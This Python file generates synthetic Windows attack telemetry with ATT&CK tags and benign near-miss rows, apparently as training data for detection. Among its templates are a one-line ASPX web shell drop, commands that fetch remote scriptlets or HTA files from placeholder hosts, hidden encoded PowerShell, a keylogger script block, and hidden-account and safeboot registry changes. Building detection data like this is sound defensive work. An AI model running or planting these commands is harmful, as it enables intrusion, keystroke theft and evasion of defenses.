"""Windows events of execution, evasion and credential access that few other rows show, with near misses."""

from __future__ import annotations

from training.generators.attack_rows import parse_events

RARE_EVENTS = parse_events(
    r"""
# Remote tools: each by its process, service, connection, file and key
rare-rmm-run process +T1219.002: @ ;; "C:\Users\‹user›\Downloads\«AnyDesk.exe" --start-with-win --silent¦AnyDesk.exe" --get-id¦rustdesk.exe" --password ‹pass›¦ScreenConnect.ClientSetup.exe"¦SupremoRemoteDesktop.exe"¦AeroAdmin.exe"¦Ammyy_Admin.exe" -service» ;; «‹cmd›¦‹ps›¦‹browser›»
rare-rmm-install process +T1219.002: @ ;; msiexec.exe /i «C:\ProgramData\«AteraAgent¦ScreenConnect.ClientSetup¦SplashtopStreamer¦meshagent¦N-Able¦action1_agent».msi¦https://‹fqdn›/«Bin/ScreenConnect.ClientSetup¦GetAgent/Msi/‹n›».msi» /qn ;; «‹cmd›¦‹ps›¦‹own›»
rare-rmm-gotohttp process +T1219.002: ‹ownplace›\«GotoHTTP_x64¦DWAgent¦Remote Utilities¦ZohoMeeting¦UltraViewer_Desktop¦ToDesk¦RemotePC».exe ;; "‹ownplace›\«GotoHTTP_x64¦DWAgent¦UltraViewer_Desktop¦ToDesk».exe" ;; «C:\Windows\explorer.exe¦‹cmd›»
rare-rmm-tunnel process +T1219.001: @ ;; «code.exe tunnel --accept-server-license-terms --name ‹name›¦C:\Users\Public\code.exe tunnel service install¦"C:\ProgramData\code-insiders.exe" tunnel user login --provider github» ;; «‹cmd›¦‹ps›»
rare-rmm-service service +T1219.002: «AnyDesk Service¦ScreenConnect Client (‹hash›)¦Splashtop® Remote Service¦AteraAgent¦Mesh Agent¦RustDesk¦SimpleService¦rutserv¦FleetDeck Agent Service¦TacticalAgent¦LogMeIn¦SupremoService» ;; «"C:\Program Files (x86)\AnyDesk\AnyDesk.exe" --service¦"C:\Program Files (x86)\ScreenConnect Client (‹hash›)\ScreenConnect.ClientService.exe" "?e=Access&y=Guest&h=‹fqdn›&p=8041"¦"C:\Program Files\Mesh Agent\MeshAgent.exe"¦C:\ProgramData\RustDesk\rustdesk.exe --service»
rare-rmm-name asked +T1219.002: «C:\Users\‹user›\Downloads\AnyDesk.exe¦‹own›¦C:\Program Files (x86)\‹Word›\‹name›.exe¦‹ps›» ;; «relay-‹hash›.net.anydesk.com¦boot.net.anydesk.com¦rs-ny.rustdesk.com¦instance-‹name›-relay.screenconnect.com¦agent-api.atera.com¦router‹n›.teamviewer.com¦global.rel.tunnels.api.visualstudio.com¦dwservice.net¦api.parsec.app»
rare-rmm-connect connected +T1219.002: «C:\Users\‹user›\Downloads\«AnyDesk¦rustdesk¦TeamViewerQS¦AA_v3».exe¦C:\ProgramData\«AnyDesk\AnyDesk¦ScreenConnect.WindowsClient¦meshagent».exe» ;; «7070¦5938¦21116¦8041¦443¦80» ;; -
rare-rmm-file file +T1219.002: «‹browser›¦‹ps›¦‹sys›\curl.exe¦‹sys›\certutil.exe» ;; C:\Users\«‹user›\Downloads¦Public»\«AnyDesk¦rustdesk-1.2.‹n›-x86_64¦TeamViewerQS_x64¦SupremoSetup¦AweSun¦ScreenConnect.Client¦Splashtop_Streamer_Windows¦ZA_Connect¦dwagent».exe
rare-rmm-config file +T1219.002: ‹own› ;; C:\«ProgramData\AnyDesk\service.conf¦Users\‹user›\AppData\Roaming\AnyDesk\ad.trace¦Users\‹user›\AppData\Roaming\RustDesk\config\RustDesk.toml¦ProgramData\Splashtop\Splashtop Remote Server\log\‹name›.log¦Windows\SysWOW64\rserver30\Radm_log.htm»
rare-rmm-key value +T1219.002: «‹own›¦‹ps›¦‹sys›\msiexec.exe» ;; HKLM\«SOFTWARE\WOW6432Node\TeamViewer\SecurityPasswordExported¦SYSTEM\CurrentControlSet\Services\AnyDesk\ImagePath¦SOFTWARE\Usoris\Remote Utilities Host\Host\Parameters\‹name›¦SOFTWARE\ATERA Networks\AlphaAgent\AccountId¦SOFTWARE\NetSupport Ltd\Client32\‹name›» ;; «Binary Data¦"C:\ProgramData\AnyDesk\AnyDesk.exe" --service¦‹name›»
rare-rmm-netsupport process +T1219.002: C:\«ProgramData¦Users\‹user›\AppData\Roaming»\‹name›\client32.exe ;; "C:\«ProgramData¦Users\‹user›\AppData\Roaming»\‹name›\client32.exe" ;; «‹ps›¦‹cmd›¦C:\Windows\explorer.exe»
rare-rmm-defender found +T1219.002: «PUA:Win32/RemoteAdmin¦RemoteAccess:Win32/NetSupport¦PUABundler:Win32/AnyDesk¦RemoteAccess:MSIL/RemoteAdmin!MSR» ;; file:_‹own› ;; ‹shells›
near-rare-rmm-run process: @ ;; «"C:\Windows\System32\mstsc.exe" /v:‹host›.‹fqdn›¦"C:\Windows\System32\msra.exe" /offerra ‹server›¦"C:\Windows\System32\quickassist.exe"¦"C:\Program Files\Zoom\bin\Zoom.exe"¦"C:\Program Files\Microsoft VS Code\Code.exe" --folder-uri C:\src\‹project›» ;; C:\Windows\explorer.exe
near-rare-rmm-name asked: «C:\Program Files\Zoom\bin\Zoom.exe¦‹browser›¦C:\Program Files\Microsoft VS Code\Code.exe¦C:\Windows\System32\svchost.exe» ;; «zoom.us¦update.code.visualstudio.com¦remoteassistance.support.services.microsoft.com¦teams.microsoft.com¦‹fqdn›»
near-rare-rmm-service service: «Zoom Sharing Service¦CcmExec¦Intune Management Extension¦Remote Desktop Configuration¦Lansweeper Agent» ;; «"C:\Program Files\Common Files\Zoom\Support\CptService.exe"¦C:\Windows\CCM\CcmExec.exe¦"C:\Program Files (x86)\Microsoft Intune Management Extension\Microsoft.Management.Services.IntuneWindowsAgent.exe"¦"C:\Program Files (x86)\LansweeperAgent\LansweeperAgentService.exe"»
# Web shells
rare-shell-file-aspx file +T1505.003: «‹s32›\inetsrv\w3wp.exe¦‹cmd›¦‹ps›¦C:\Windows\System32\svchost.exe» ;; C:\«inetpub\wwwroot\aspnet_client\«system_web\¦»‹name›.«aspx¦ashx¦asmx»¦Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\‹name›.aspx¦Program Files\Common Files\microsoft shared\Web Server Extensions\16\TEMPLATE\LAYOUTS\«spinstall0¦‹name›».aspx»
rare-shell-file-jsp file +T1505.003: C:\«Program Files\Apache Software Foundation\Tomcat 9.0\bin\tomcat9.exe¦Program Files\ManageEngine\ServiceDesk\jre\bin\java.exe¦Windows\System32\cmd.exe» ;; C:\«Program Files\Apache Software Foundation\Tomcat 9.0\webapps\ROOT\‹name›.jsp¦Program Files\ManageEngine\ServiceDesk\webapps\‹name›.war¦apache-tomcat\webapps\‹name›\«cmd¦shell».jsp»
rare-shell-file-php file +T1505.003: C:\«xampp\apache\bin\httpd.exe¦xampp\php\php-cgi.exe¦Windows\System32\cmd.exe» ;; C:\«xampp\htdocs\«uploads\¦»‹name›.«php¦phtml¦php5»¦wamp64\www\wp-content\uploads\‹n›\‹name›.php»
rare-shell-echo process +T1505.003: @ ;; cmd.exe /c echo ^<%%@ Page Language="Jscript"%%^>^<%%eval(Request.Item["‹name›"],"unsafe");%%^> > C:\inetpub\wwwroot\«aspnet_client\¦»‹name›.aspx ;; «‹s32›\inetsrv\w3wp.exe¦‹ps›¦‹s32›\wbem\WmiPrvSE.exe»
rare-shell-copy process +T1505.003: @ ;; «cmd.exe /c xcopy C:\ProgramData\‹name›.aspx C:\inetpub\wwwroot /y¦xcopy /I /Y C:\ProgramData\‹name›.jsp C:\inetpub\wwwroot¦cmd /c copy C:\Users\Public\«b¦tests¦cmd¦shell».jsp "C:\Program Files\Apache Software Foundation\Tomcat 9.0\webapps\ROOT\"» ;; «‹cmd›¦‹ps›»
rare-shell-coldfusion process +T1505.003: @ ;; «cmd.exe /c whoami > C:\ColdFusion2021\cfusion\wwwroot\‹name›.txt¦powershell.exe -c hostname¦cmd /c net group "domain admins" /domain» ;; C:\«ColdFusion2021\cfusion\bin\coldfusion¦Program Files\Zoho\jre\bin\java¦Program Files\MOVEit Transfer\moveitdmz¦Program Files (x86)\PHP\php-cgi¦nginx\nginx».exe
rare-shell-defender found +T1505.003: «Backdoor:ASP/«Chopper.A!dha¦WebShell¦Aspy.F»¦Backdoor:PHP/«WebShell.B¦Remoteshell.V¦C99shell»¦Backdoor:JS/JspWebShell¦Exploit:ASP/CVE-2021-27065¦Trojan:JSP/Behinder.A» ;; file:_C:\inetpub\wwwroot\‹name›.aspx ;; ‹s32›\inetsrv\w3wp.exe
near-rare-shell-file file: «C:\Windows\System32\inetsrv\w3wp.exe¦C:\Windows\System32\msdeploy.exe¦C:\Program Files\IIS\Microsoft Web Deploy V3\msdeploy.exe¦C:\xampp\php\php-cgi.exe» ;; C:\«inetpub\wwwroot\‹word›\uploads\‹name›.«jpg¦pdf»¦inetpub\logs\LogFiles\W3SVC1\u_ex‹n›.log¦inetpub\wwwroot\‹word›\bin\‹Word›.dll¦xampp\htdocs\cache\‹name›.html»
# Processes in processes
rare-inject-loadlib thread +T1055.001: «‹own›¦‹sys›\rundll32.exe» ;; «‹s32›\«lsass¦svchost¦dllhost¦RuntimeBroker¦sihost».exe¦C:\Program Files\Mozilla Firefox\firefox.exe» ;; C:\Windows\System32\kernel32.dll ;; LoadLibrary«A¦W¦ExW»
rare-inject-module load +T1055.001: «‹s32›\«notepad¦spoolsv¦winlogon¦mspaint».exe¦C:\Windows\explorer.exe» ;; ‹ownplace›\«inject¦hook64¦‹name›».dll
rare-inject-mavinject process +T1218.013: @ ;; "C:\Windows\System32\mavinject.exe" ‹pid› /INJECTRUNNING ‹ownplace›\‹name›.dll ;; ‹ps›
rare-inject-pe thread +T1055: «‹ps›¦‹own›» ;; «‹s32›\«notepad¦svchost¦winlogon¦dllhost».exe¦C:\Windows\explorer.exe» ;; - ;; «-¦»
rare-inject-pe-access access +T1055: ‹own› ;; «‹s32›\«notepad¦mspaint¦calc».exe¦C:\Windows\explorer.exe» ;; «0x1f3fff¦0x43a¦0x43b» ;; C:\Windows\System32\KERNELBASE.dll|UNKNOWN(‹hex›)|UNKNOWN(‹hex›)
rare-inject-hijack sysmon +T1055.003: 10 ;; SourceImage=‹own› ;; TargetImage=‹s32›\«notepad¦mspaint¦svchost».exe ;; GrantedAccess=0x5a ;; CallTrace=C:\Windows\SYSTEM32\ntdll.dll+9d4‹n›|C:\Windows\System32\KERNEL32.DLL+SetThreadContext+‹n›|UNKNOWN(‹hex›)
rare-inject-hollow process +T1055.012: ‹sys›\«svchost¦notepad¦werfault¦dllhost».exe ;; ‹sys›\«svchost¦notepad¦werfault¦dllhost».exe ;; ‹own›
rare-inject-hollow-office process +T1055.012: C:\Windows\«explorer¦SysWOW64\notepad¦SysWOW64\explorer».exe ;; C:\Windows\«explorer.exe¦SysWOW64\notepad.exe¦SysWOW64\explorer.exe» ;; C:\Program Files\Microsoft Office\root\Office16\«WINWORD¦EXCEL».EXE
near-rare-inject-thread thread: «C:\Windows\System32\csrss.exe¦C:\Windows\System32\wbem\WmiPrvSE.exe¦C:\Program Files\Microsoft Visual Studio\2022\Community\Common7\IDE\Remote Debugger\x64\msvsmon.exe» ;; «C:\src\‹project›\bin\Debug\‹project›.exe¦‹s32›\«svchost¦conhost».exe» ;; «C:\Windows\SYSTEM32\ntdll.dll¦C:\Windows\System32\KERNELBASE.dll» ;; «DbgUiRemoteBreakin¦CtrlRoutine»
near-rare-inject-load load: «‹s32›\«notepad¦spoolsv».exe¦C:\Windows\explorer.exe» ;; C:\Program Files\«7-Zip\7-zip¦Notepad++\contextMenu\NppShell¦TortoiseGit\bin\TortoiseGitStub¦WinRAR\rarext».dll
rare-keylog-script log +T1056.001: Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4104 ;; MessageNumber=1 ;; MessageTotal=1 ;; ScriptBlockText=«while($true){ Start-Sleep -Milliseconds 40; for($c=9;$c -le 254;$c++){ if([K.User32]::GetAsyncKeyState($c) -eq -32767){ [IO.File]::AppendAllText("$env:TEMP\‹name›.log",[char]$c) } } }¦$hook=[K]::SetWindowsHookEx(13,$proc,0,0); [Windows.Forms.Application]::Run()»
rare-keylog-file file +T1056.001: «‹own›¦‹ps›¦‹sys›\rundll32.exe» ;; C:\Users\‹user›\AppData\«Local\Temp\«keys¦keylog¦key»«_‹n›¦».«log¦txt»¦Roaming\«keystrokes¦klg¦Logs\‹n›-‹n›-2024».«dat¦txt»»
rare-prompt-load loadsigned +T1056.002: «‹ps›¦‹own›» ;; ‹s32›\credui.dll
rare-native-load load +T1129: «‹ps›¦‹sys›\rundll32.exe¦‹sys›\mshta.exe» ;; ‹ownplace›\‹name›.«dll¦cpl¦ocx»
near-rare-native-load load: C:\Program Files\«Python311\python¦Notepad++\notepad++¦Git\usr\bin\perl».exe ;; C:\Program Files\«Python311\Lib\site-packages\‹word›\_‹word›.pyd¦Notepad++\plugins\‹word›\‹word›.dll¦Git\usr\lib\perl5\auto\‹word›\‹word›.dll»
rare-dde-child process +T1559.002: @ ;; «cmd.exe /k powershell -nop -w hidden -enc ‹enc›¦"C:\Windows\System32\cmd.exe" /k calc.exe¦cmd /c regsvr32 /s /n /u /i:http://‹ip›/‹name›.sct scrobj.dll» ;; C:\Program Files\Microsoft Office\root\Office16\«WINWORD¦EXCEL¦OUTLOOK».EXE ;; "C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\‹user›\Downloads\dde_‹name›.docx"
rare-dde-key value +T1559.002: ‹writer› ;; ‹hku›\Software\Microsoft\Office\16.0\«Word\Security\AllowDDE¦Excel\Security\DisableDDEServerLaunch¦Excel\Security\WorkbookLinkWarnings» ;; DWORD (0x0000000«0¦2»)
rare-com-child process +T1559.001: ‹cmd› ;; cmd.exe /c «‹own›¦calc.exe» ;; C:\Windows\System32\«dllhost¦mmc».exe ;; C:\Windows\System32\«DllHost.exe /Processid:‹guid›¦mmc.exe -Embedding»
rare-dcom-child process +T1021.003: @ ;; «cmd.exe /c ‹own›¦powershell.exe -enc ‹enc›¦"C:\Windows\System32\cmd.exe" /Q /c whoami 1> \\127.0.0.1\ADMIN$\__17‹pid›.‹n› 2>&1» ;; ‹s32›\mmc.exe ;; C:\Windows\system32\mmc.exe -Embedding
rare-winrm-child process +T1021.006: @ ;; «cmd.exe /C whoami¦powershell.exe -enc ‹enc›¦"C:\Windows\system32\cmd.exe" /C "net localgroup administrators"¦‹own›» ;; ‹s32›\«winrshost¦wsmprovhost».exe ;; C:\Windows\system32\«WinrsHost.exe -Embedding¦wsmprovhost.exe -Embedding»
rare-winrm-shell log +T1021.006: Microsoft-Windows-WinRM|Microsoft-Windows-WinRM/Operational|«91¦169» ;; resourceUri=http://schemas.microsoft.com/wbem/wsman/1/windows/shell/cmd ;; username=‹domain›\‹user› ;; authenticationMechanism=«NTLM¦Basic»
rare-ssh-child process +T1021.004: @ ;; «cmd.exe /c ‹own›¦"c:\windows\system32\cmd.exe" /c "whoami /all"¦powershell.exe -enc ‹enc›» ;; C:\Windows\System32\OpenSSH\sshd.exe ;; "C:\Windows\System32\OpenSSH\sshd.exe" -z
near-rare-remote-child process: @ ;; «"C:\Windows\System32\OpenSSH\sftp-server.exe"¦C:\Windows\System32\conhost.exe 0x4¦"c:\windows\system32\cmd.exe" /c "git-upload-pack '/‹project›.git'"» ;; C:\Windows\System32\OpenSSH\sshd.exe ;; "C:\Windows\System32\OpenSSH\sshd.exe" -z
# Proxies
rare-proxy-mmc process +T1218.014: ‹cmd› ;; cmd.exe /c «powershell -enc ‹enc›¦‹own›» ;; ‹s32›\mmc.exe ;; "C:\Windows\system32\mmc.exe" "C:\Users\‹user›\Downloads\‹name›.msc"
rare-proxy-cpl load +T1218.002: ‹sys›\«rundll32¦control».exe ;; ‹ownplace›\‹name›.cpl
rare-proxy-verclsid process +T1218.012: @ ;; verclsid.exe /S /C ‹guid› ;; «‹office›¦‹ps›¦‹cmd›»
rare-proxy-odbc load +T1218.008: ‹sys›\odbcconf.exe ;; ‹ownplace›\‹name›.«dll¦rsp¦dat»
rare-proxy-installutil load +T1218.004: C:\Windows\Microsoft.NET\Framework«64¦»\v4.0.30319\InstallUtil.exe ;; ‹ownplace›\‹name›.«dll¦exe¦txt»
rare-proxy-regasm connected +T1218.009: C:\Windows\Microsoft.NET\Framework«¦64»\v4.0.30319\«RegAsm¦RegSvcs».exe ;; «80¦443¦4444¦8080¦587» ;; -
rare-proxy-mavinject process +T1218.013: @ ;; mavinject.exe ‹pid› /INJECTRUNNING C:\«Temp¦ProgramData¦Users\Public»\‹name›.dll ;; ‹cmd›
rare-proxy-electron process +T1218.015: ‹cmd› ;; «"C:\Windows\System32\cmd.exe" /c ping -n 1 ‹ip› &&¦cmd.exe /c powershell -enc ‹enc›¦C:\Windows\System32\cmd.exe /c ‹own›» ;; C:\Users\‹user›\AppData\Local\«Microsoft\Teams\current\Teams¦Discord\app-1.0.‹n›\Discord¦slack\app-4.‹n›\slack¦Programs\signal-desktop\Signal».exe
rare-proxy-hh process +T1218.001: @ ;; «cmd.exe /c ‹own›¦powershell.exe -w hidden -enc ‹enc›¦rundll32.exe C:\ProgramData\‹name›.dll,Start¦mshta.exe http://‹ip›/‹name›.hta» ;; C:\Windows\hh.exe ;; "C:\Windows\hh.exe" C:\Users\‹user›\Downloads\‹name›.chm
rare-proxy-cmstp connected +T1218.003: ‹sys›\cmstp.exe ;; «80¦443¦8080» ;; -
rare-proxy-xsl connected +T1220: «‹sys›\wbem\WMIC.exe¦‹ownplace›\msxsl.exe» ;; «80¦443¦8000» ;; -
rare-proxy-xsl-load loadsigned +T1220: ‹sys›\wbem\WMIC.exe ;; ‹s32›\«jscript¦vbscript».dll
rare-proxy-pubprn process +T1216.001: @ ;; "C:\Windows\System32\«wscript¦cscript».exe" "C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs" «localhost¦127.0.0.1» "script:http«s¦»://‹fqdn›/‹name›.sct" ;; «‹cmd›¦‹ps›¦C:\Windows\explorer.exe»
rare-proxy-msbuild process +T1127.001: @ ;; C:\Windows\Microsoft.NET\Framework\v4.0.30319\MSBuild.exe ‹ownplace›\‹name›.«csproj¦xml¦txt» ;; «‹office›¦‹s32›\wscript.exe¦C:\Windows\System32\svchost.exe»
rare-proxy-clickonce file +T1127.002: ‹sys›\dfsvc.exe ;; C:\Users\‹user›\AppData\Local\Apps\2.0\‹letters8›.‹n›\‹letters8›.‹n›\‹name›\«‹name›.exe¦‹name›.dll.genman»
rare-proxy-aspnet process +T1127: C:\Windows\Microsoft.NET\Framework64\v4.0.30319\aspnet_compiler.exe ;; aspnet_compiler.exe -v none -p C:\ProgramData\‹name› -f C:\Users\Public\‹name› -u ;; ‹cmd›
near-rare-proxy-parent process: @ ;; «"C:\Program Files\Internet Explorer\iexplore.exe" -nohome¦C:\Windows\system32\werfault.exe -u -p ‹pid› -s ‹n›¦"‹browser›" https://learn.microsoft.com/‹word›» ;; «C:\Windows\hh.exe¦‹s32›\mmc.exe¦C:\Users\‹user›\AppData\Local\slack\slack.exe»
near-rare-proxy-load loadsigned: ‹sys›\«odbcconf¦control¦cmstp¦rundll32».exe ;; ‹s32›\«odbc32¦desk.cpl¦cmutil¦main.cpl¦shell32».dll
# Names and files that mislead
rare-mask-name sysmon +T1036.003: 1 ;; Image=‹ownplace›\«svchost¦chrome¦update¦‹name›».exe ;; OriginalFileName=«Cmd.Exe¦PowerShell.EXE¦RUNDLL32.EXE¦MSHTA.EXE¦CertUtil.exe¦wscript.exe¦psexec.c» ;; CommandLine="‹ownplace›\‹name›.exe" ;; ParentImage=‹cmd›
rare-mask-copy file +T1036.003: ‹cmd› ;; C:\«ProgramData¦Users\Public¦Windows\Temp»\«cmd¦powershell¦rundll32¦wscript¦mshta¦certutil»«_‹name›¦1¦x».exe
rare-mask-service service +T1543.003: «Windows Update Helper¦Microsoft Edge Update Service2¦WinDefenderHelper¦Windows Time Broker¦W32Time2¦Adobe Flash Updater» ;; C:\«ProgramData¦Users\Public¦Windows\Temp»\‹name›.exe
rare-mask-task task +T1053.005: «\Microsoft\Windows\Diagnosis\ScheduledCheck¦\MicrosoftEdgeUpdateTaskMachineUA‹n›¦\Microsoft\Windows\Windows Error Reporting\QueueCheck¦\AdobeUpdateTask¦\Windows Time Sync» ;; C:\«ProgramData¦Users\Public»\‹name›.exe§«-k netsvcs¦/silent»
rare-mask-place process +T1036.005: C:\«Windows\«svchost¦lsass¦services¦csrss»¦ProgramData\«svchost¦smss¦winlogon»¦Users\‹user›\AppData\Roaming\«svchost¦explorer¦dllhost»¦Windows\Temp\«lsass¦taskhostw»¦PerfLogs\conhost».exe ;; «svchost.exe -k netsvcs¦svchost.exe» ;; «‹cmd›¦C:\Windows\explorer.exe¦‹own›»
rare-mask-place-file file +T1036.005: «‹ps›¦‹cmd›¦‹own›» ;; C:\«Windows\svchost¦ProgramData\Microsoft\csrss¦Users\Public\lsass¦Windows\System\winlogon¦Windows \System32\winsat¦Windows\System32\svch0st¦Windows\System32\lsasss».exe
rare-mask-double process +T1036.007: @ ;; "C:\Users\‹user›\«Downloads¦Desktop»\«invoice¦resume¦‹name›».«pdf¦docx¦xlsx¦png».«scr¦exe¦com¦pif»" ;; «‹browser›¦C:\Program Files\7-Zip\7zFM.exe¦C:\Program Files\WinRAR\WinRAR.exe¦C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE»
rare-mask-double-shortcut file +T1036.007: «C:\Windows\explorer.exe¦C:\Program Files\WinRAR\WinRAR.exe» ;; C:\Users\‹user›\«Downloads¦Desktop»\«contract¦scan¦‹name›».«pdf¦docx¦jpg».«lnk¦js¦hta¦vbe¦wsf»
rare-mask-double-defender found +T1036.007: «Trojan:Win32/DoubleExtension!MSR¦SuspDoubleExt.A¦Trojan:Win32/Suspdoubleext.B!ml» ;; file:_C:\Users\‹user›\Downloads\‹name›.pdf.exe ;; C:\Windows\explorer.exe
near-rare-mask-file file: «‹browser›¦C:\Program Files\7-Zip\7zG.exe¦C:\Windows\explorer.exe» ;; C:\Users\‹user›\Downloads\«‹word›-v2.‹n›.tar.gz¦‹word›.min.js¦report.2024.‹n›.pdf¦‹Word›.Setup.1.‹n›.exe¦archive.‹name›.zip»
near-rare-mask-task task: \«MicrosoftEdgeUpdateTaskMachineUA¦GoogleUpdateTaskMachineCore¦Adobe Acrobat Update Task¦Microsoft\Windows\WindowsUpdate\Scheduled Start» ;; C:\Program Files (x86)\«Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe§/ua /installsource scheduler¦Google\Update\GoogleUpdate.exe§/c¦Common Files\Adobe\ARM\1.0\AdobeARM.exe§»
rare-compile-run process +T1027.004: C:\Windows\Microsoft.NET\Framework«64¦»\v4.0.30319\«csc¦vbc».exe ;; "C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe" /noconfig /fullpaths @"C:\Users\‹user›\AppData\Local\Temp\‹letters8›\‹letters8›.cmdline" ;; «‹s32›\«mshta¦wscript¦cscript¦rundll32».exe¦‹office›»
rare-compile-file file +T1027.004: «‹ps›¦‹cmd›» ;; C:\«Users\Public¦ProgramData¦Windows\Temp»\‹name›.«cs¦vb¦cpp»
rare-blob-key value +T1027.011: «‹ps›¦‹reg›¦‹own›» ;; HKLM\SOFTWARE\«‹name›¦Classes\‹name›¦Microsoft\‹name›»\«data¦‹n›¦‹letters8›» ;; «‹enc›¦Binary Data¦TVqQAAMAAAAEAAAA//8AALgAAAA‹hash›»
rare-encoded-file file +T1027.013: «‹own›¦‹ps›» ;; C:\«ProgramData¦Users\Public¦Windows\Temp»\‹name›.«xor¦enc¦rc4¦aes¦b64.txt»
rare-hide-account value +T1564.002: ‹writer› ;; HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList\«‹name›¦support_‹n›¦‹user›$» ;; DWORD (0x00000000)
rare-hide-window process +T1564.003: C:\Windows\System32\conhost.exe ;; conhost.exe --headless «cmd.exe /c ‹own›¦powershell.exe -ep bypass -f C:\ProgramData\‹name›.ps1¦C:\ProgramData\‹name›\python.exe ‹name›.py» ;; «C:\Windows\explorer.exe¦C:\Windows\System32\svchost.exe¦‹cmd›»
rare-hide-console value +T1564.003: ‹writer› ;; ‹hku›\Console\%SystemRoot%_System32_WindowsPowerShell_v1.0_powershell.exe\WindowPosition ;; DWORD (0x«0c000c00¦26660100»)
rare-hide-vm process +T1564.006: @ ;; «"C:\ProgramData\‹name›\VBoxHeadless.exe" -startvm micro -v off¦C:\Users\Public\qemu\qemu-system-i386.exe -nographic -m 128 -hda ‹name›.img¦"C:\Program Files\Oracle\VirtualBox\VBoxManage.exe" createvm --name ‹name› --register» ;; «‹cmd›¦‹ps›¦‹sys›\msiexec.exe»
rare-hidden-attrib process +T1564.001: @ ;; attrib.exe +«h¦h +s¦s +h +r» "C:\«ProgramData\‹name›¦Users\Public\‹name›.exe¦Windows\Temp\‹name›.dll¦$Recycle.Bin\‹name›.exe»" ;; «‹cmd›¦‹ps›¦‹own›»
rare-hidden-key value +T1564.001: «‹ps›¦‹reg›¦‹own›» ;; ‹hku›\Software\Microsoft\Windows\CurrentVersion\Explorer\Advanced\«Hidden¦ShowSuperHidden» ;; DWORD (0x0000000«0¦2»)
near-rare-hidden-key value: C:\Windows\explorer.exe ;; ‹hku›\Software\Microsoft\Windows\CurrentVersion\Explorer\Advanced\«HideFileExt¦LaunchTo¦TaskbarAl¦Hidden» ;; DWORD (0x00000001)
rare-iso-mount log +T1553.005: Microsoft-Windows-VHDMP|Microsoft-Windows-VHDMP-Operational|«1¦12» ;; VhdFileName=C:\Users\‹user›\Downloads\«invoice¦‹name›».«iso¦img» ;; Status=0
rare-root-store value +T1553.004: «‹ps›¦‹own›¦‹sys›\certutil.exe¦‹sys›\rundll32.exe» ;; «HKLM\SOFTWARE¦‹hku›\Software»\Microsoft\SystemCertificates\Root\Certificates\‹hash›\Blob ;; Binary Data
rare-sip-key value +T1553.003: ‹writer› ;; HKLM\SOFTWARE\Microsoft\Cryptography\OID\EncodingType 0\CryptSIPDll«GetSignedDataMsg¦VerifyIndirectData»\{603BCC1F-4B59-4E08-B724-D2C6297EF351}\«Dll¦FuncName» ;; «C:\ProgramData\‹name›.dll¦AutoApprove¦DbgUiContinue»
rare-integrity log +T1553.006: Microsoft-Windows-CodeIntegrity|Microsoft-Windows-CodeIntegrity/Operational|30«01¦04» ;; FileNameBuffer=\Device\HarddiskVolume3\«ProgramData¦Windows\Temp»\‹name›.sys
rare-testsign value +T1553.006: ‹writer› ;; HKLM\«BCD00000000\Objects\‹guid›\Elements\16000049\Element¦SYSTEM\CurrentControlSet\Control\CI\Policy\WhqlSettings» ;; «Binary Data¦DWORD (0x00000000)»
near-rare-root-store value: «C:\Windows\System32\svchost.exe¦C:\Windows\System32\lsass.exe» ;; HKLM\SOFTWARE\Microsoft\SystemCertificates\«AuthRoot\Certificates\‹hash›¦AuthRoot\AutoUpdate\EncodedCtl¦CA\Certificates\‹hash›»\Blob ;; Binary Data
rare-safeboot value +T1688: «‹own›¦‹ps›¦‹reg›¦‹cmd›» ;; HKLM\SYSTEM\CurrentControlSet\Control\SafeBoot\«Network¦Minimal»\«‹name›¦AnyDesk¦‹Word›Svc»\(Default) ;; Service
rare-safeboot-boot value +T1688: «‹sys›\bcdedit.exe¦‹own›» ;; HKLM\BCD00000000\Objects\‹guid›\Elements\25000080\Element ;; Binary Data
rare-safeboot-run process +T1688: @ ;; bcdedit.exe /set {«current¦default»} safeboot «network¦minimal» ;; ‹own›
rare-downgrade-key value +T1689: ‹writer› ;; HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\SCHANNEL\Protocols\«SSL 2.0¦SSL 3.0¦TLS 1.0»\«Client¦Server»\Enabled ;; DWORD (0x00000001)
"""
)
